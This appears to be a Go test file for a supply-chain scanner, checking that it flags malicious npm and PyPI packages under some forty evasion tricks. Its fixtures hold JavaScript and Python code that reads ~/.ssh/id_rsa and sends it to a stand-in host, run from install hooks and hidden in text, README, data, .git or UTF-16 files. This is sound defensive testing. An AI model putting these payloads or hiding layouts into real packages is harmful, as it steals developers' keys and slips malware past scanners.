package content

import (
	"context"
	"errors"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf16"

	"github.com/kennel-oss/kennel"
)

// What a harmful file does is seen whatever the file is called and wherever it
// is put, or it is told that somebody could not look.
func TestEvasions(t *testing.T) {
	const js = `const s=require('fs').readFileSync(require('os').homedir()+'/.ssh/id_rsa');require('https').request('https://c.example',{method:'POST'}).end(s);`
	const py = "import os, urllib.request\nurllib.request.urlopen('https://c.example', data=open(os.path.expanduser('~/.ssh/id_rsa')).read().encode())\n"
	const hook = `{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup"}}`
	manifest := func(command string) string {
		return `{"name":"a","version":"1.0.0","scripts":{"postinstall":"` + command + `"}}`
	}
	for name, files := range map[string]map[string]string{
		"plain":                  {"package.json": hook, "setup.js": js},
		"text file":              {"package.json": manifest("node run.txt"), "run.txt": js},
		"read me":                {"package.json": manifest("node README.md"), "README.md": js},
		"declarations":           {"package.json": manifest("node run.d.ts"), "run.d.ts": js},
		"no extension":           {"package.json": manifest("node ./run"), "run": js},
		"data":                   {"package.json": manifest("node lib/x.dat"), "lib/x.dat": js},
		"required":               {"package.json": hook, "setup.js": "require('./x.dat')", "x.dat": js},
		"preloaded":              {"package.json": manifest("node -r ./x.dat setup.js"), "setup.js": "", "x.dat": js},
		"forked":                 {"package.json": hook, "setup.js": "require('child_process').fork('./x.md')", "x.md": js},
		"forked by folder":       {"package.json": hook, "setup.js": "require('child_process').fork(require('path').join(__dirname,'x.md'))", "x.md": js},
		"spawned":                {"package.json": hook, "setup.js": "require('child_process').spawnSync(process.execPath,[require('path').join(__dirname,'x.md')])", "x.md": js},
		"worker":                 {"package.json": hook, "setup.js": "new (require('worker_threads').Worker)('./x.md')", "x.md": js},
		"read and run":           {"package.json": hook, "setup.js": "require('vm').runInThisContext(require('fs').readFileSync(__dirname+'/x.txt','utf8'))", "x.txt": js},
		"read and evaluated":     {"package.json": hook, "setup.js": "const c=require('fs').readFileSync('x.txt').toString();eval(c)", "x.txt": js},
		"import of its own":      {"package.json": `{"name":"a","version":"1.0.0","imports":{"#x":"./x.dat"},"scripts":{"postinstall":"node setup"}}`, "setup.js": "require('#x')", "x.dat": js},
		"import of itself":       {"package.json": `{"name":"a","version":"1.0.0","exports":{"./x":"./x.dat"},"scripts":{"postinstall":"node setup"}}`, "setup.js": "require('a/x')", "x.dat": js},
		"folder with a manifest": {"package.json": hook, "setup.js": "require('./sub')", "sub/package.json": `{"main":"x.dat"}`, "sub/x.dat": js},
		"carried package":        {"package/package.json": hook, "package/setup.js": "require('b')", "package/node_modules/b/package.json": `{"main":"x"}`, "package/node_modules/b/x.js": js},
		"store of a repository":  {"package.json": manifest("node .git/x"), ".git/x": js},
		"two folders":            {"package/package.json": hook, "package/setup.js": js, "other/a.txt": ""},
		"manifest elsewhere":     {"package/a.txt": "", "z/package.json": hook, "z/setup.js": js},
		"script elsewhere":       {"package/package.json": hook, "z/setup.js": js},
		"doubled":                {"package/package.json": hook, "package/setup.js": js, "z/setup.js": ""},
		"file beside":            {"package/package.json": hook, "package/setup.js": js, "package.json": "{}"},
		"deep manifest":          {"package.json": `{"x":` + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000) + "," + hook[1:], "setup.js": js},
		"deep scripts":           {"package.json": `{"name":"a","scripts":{"x":` + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000) + `,"postinstall":"node setup"}}`, "setup.js": js},
		"padded manifest":        {"package.json": strings.Repeat(" ", maxText+1) + hook, "setup.js": js},
		"marked manifest":        {"package.json": "\ufeff" + hook, "setup.js": js},
		"repeated name":          {"package.json": `{"name":"a","scripts":{},"scripts":{"postinstall":"node setup"}}`, "setup.js": js},
		"no manifest":            {"package.json": hook[:40], "setup.js": js},
		"wide text":              {"package.json": hook, "setup.js": wide(js)},
		"binary":                 {"package.json": manifest("node x.dat"), "x.dat": "\x00\x01" + js},
		"other language":         {"package.json": manifest("perl x.dat"), "x.dat": "print 1"},
		"python text":            {"setup.py": "exec(open('VERSION.txt').read())", "VERSION.txt": py},
		"python by folder":       {"setup.py": "import os\nhere=os.path.dirname(__file__)\nwith open(os.path.join(here,'VERSION.txt')) as f:\n    exec(f.read())\n", "VERSION.txt": py},
		"python path":            {"setup.py": "import runpy\nrunpy.run_path('x.dat')", "x.dat": py},
		"python loader":          {"setup.py": "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x','x.dat').load_module()", "x.dat": py},
		"python program":         {"setup.py": "import subprocess, sys\nsubprocess.run([sys.executable,'x.dat'])", "x.dat": py},
		"python bytecode":        {"setup.py": "import x", "x.pyc": "\xa7\x0d\x0d\x0a\x00\x00\x00\x00xxxxxxxx"},
		"python turned":          {"setup.py": "# coding: rot13\nvzcbeg bf\n"},
		"two files":              {"package.json": hook, "setup.js": "require('./send').send(require('./take').take())", "take.js": "exports.take=()=>require('fs').readFileSync(require('os').homedir()+'/.ssh/id_rsa','utf8')", "send.js": "exports.send=s=>require('https').request('https://c.example',{method:'POST'}).end(s)"},
		"other package":          {"package.json": manifest("npm i --no-save b")},
		"other package by code":  {"package.json": hook, "setup.js": "require('child_process').execSync('npm install b')"},
		"python package":         {"setup.py": "import subprocess, sys\nsubprocess.check_call([sys.executable,'-m','pip','install','b'])"},
		"python package by name": {"setup.py": "import os\nos.system('pip install b')"},
		"module as address":      {"package.json": hook, "setup.js": "fetch('https://c.example').then(r=>r.text()).then(t=>import('data:text/javascript,'+t))"},
		"gyp include":            {"package.json": `{"name":"a"}`, "binding.gyp": `{"includes":["x.gypi"],"targets":[]}`, "x.gypi": `{"variables":{"a":"<!(node x.dat)"}}`, "x.dat": js},
		"gyp action":             {"package.json": `{"name":"a"}`, "binding.gyp": `{"targets":[{"actions":[{"action":["node","x.dat"]}]}]}`, "x.dat": js},
	} {
		t.Run(name, func(t *testing.T) {
			fsys := fstest.MapFS{}
			for name, text := range files {
				fsys[name] = &fstest.MapFile{Data: []byte(text)}
			}
			c := kennel.Component{Package: kennel.Package{Ecosystem: kennel.NPM, Name: "a"}, Version: "1.0.0"}
			if _, ok := files["setup.py"]; ok {
				c.Ecosystem = kennel.PyPI
			}
			findings, err := New().Examine(t.Context(), kennel.NewSubject(c, time.Time{}, kennel.Grants{Release: fsys}))
			seen := errors.As(err, new(*kennel.CouldNotLook))
			for _, f := range findings {
				seen = seen || f.Severity >= kennel.SeverityMedium
			}
			if !seen {
				t.Errorf("clear: %v, %v", findings, err)
			}
			t.Log(err, len(findings))
		})
	}
}

func wide(text string) string {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(text)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// A text that takes too many steps is read in part, and who gave up is obeyed.
func TestWork(t *testing.T) {
	f := &facts{work: &work{t.Context(), 10_000}}
	if err := f.read(source{"a.js", strings.Repeat("a(b);", 100_000), 1}, &javascript); err != nil || f.part == "" {
		t.Errorf("%v, %q", err, f.part)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for _, l := range []*language{&javascript, &python, &shell} {
		f = &facts{work: newWork(ctx, 1000, releaseSteps)}
		if err := f.read(source{"a", strings.Repeat("a b\n", 100_000), 1}, l); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %v", l.name, err)
		}
	}
}
